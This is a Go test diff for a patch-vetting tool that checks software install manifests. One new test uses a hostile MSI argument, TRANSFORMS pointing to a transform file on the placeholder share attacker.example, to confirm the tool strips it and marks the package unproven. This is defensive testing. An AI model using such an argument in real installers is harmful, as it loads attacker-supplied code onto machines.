@@ -63,9 +63,20 @@ func (b *bench) program(file, kind, version string) patch.Patch {
 	payload := patch.Payload{SHA256: hash(data), Size: int64(len(data)), Name: file}
 	return patch.Patch{
 		ID: patch.ID(file + kind + version), Vendor: "winget", Product: "Acme.App", Version: version,
-		Install: patch.Manifest{Kind: kind, Argv: []string{"x"}, Scope: "machine"},
+		Install: patch.Manifest{Kind: kind, Argv: words(kind), Scope: "machine"},
 		Items:   []patch.Item{{Kind: "arp", Name: "app", Version: version, Payload: payload}, {Kind: "app", Name: "app|acme", Version: version, Payload: payload}},
 	}
+}
+
+// words are what a manifest of the kind says.
+func words(kind string) []string {
+	switch kind {
+	case "exe":
+		return []string{"{payload}"}
+	case "msi", "msp":
+		return []string{"ADDLOCAL=ALL"}
+	}
+	return nil
 }
 
 func (b *bench) judge(ps ...patch.Patch) ([]patch.Patch, []lab.Rejection) {
@@ -113,7 +124,7 @@ func TestPrograms(t *testing.T) {
 			}
 			e, it := kept[0].Evidence, kept[0].Items[1]
 			if c.says == "" {
-				if e.Verdict != patch.Proven || it.Payload.Signer == "" || len(kept[0].Install.Argv) != 1 || p.Items[0].Payload.Signer != "" {
+				if e.Verdict != patch.Proven || it.Payload.Signer == "" || len(kept[0].Install.Argv) != len(p.Install.Argv) || p.Items[0].Payload.Signer != "" {
 					t.Errorf("%+v %+v", e, it)
 				}
 				return
@@ -163,5 +174,26 @@ func TestProgramsRefused(t *testing.T) {
 	}
 	if _, err := lab.Open(dir); !fault.Is(err, fault.Invalid) || !strings.Contains(fault.HintOf(err), "backup") {
 		t.Errorf("damaged signers: %v", err)
+	}
+}
+
+// TestTrustRow2HostileCommand: a genuine program with a command that brings
+// other code, as a hostile manifest would have it, is a bulletin; of others the
+// command stands where people approve.
+func TestTrustRow2HostileCommand(t *testing.T) {
+	b := newBench(t)
+	p := b.program("good.msi", "msi", "1.0")
+	p.Install.Argv = []string{`TRANSFORMS=\\attacker.example\share\evil.mst`}
+	kept, rejected := b.judge(p)
+	if len(kept) != 1 || len(rejected) > 0 {
+		t.Fatal(kept, rejected)
+	}
+	if got := kept[0]; got.Evidence.Verdict != patch.Unproven || len(got.Install.Argv) > 0 || got.Items[0].Payload != (patch.Payload{}) ||
+		!strings.Contains(got.Evidence.Checks[0], "TRANSFORMS") {
+		t.Errorf("%+v", got)
+	}
+	kept, _ = b.judge(b.program("good.msi", "msi", "1.0"))
+	if e := kept[0].Evidence; e.Verdict != patch.Proven || !strings.Contains(strings.Join(e.Checks, "\n"), "with ADDLOCAL=ALL") {
+		t.Errorf("%+v", e)
 	}
 }
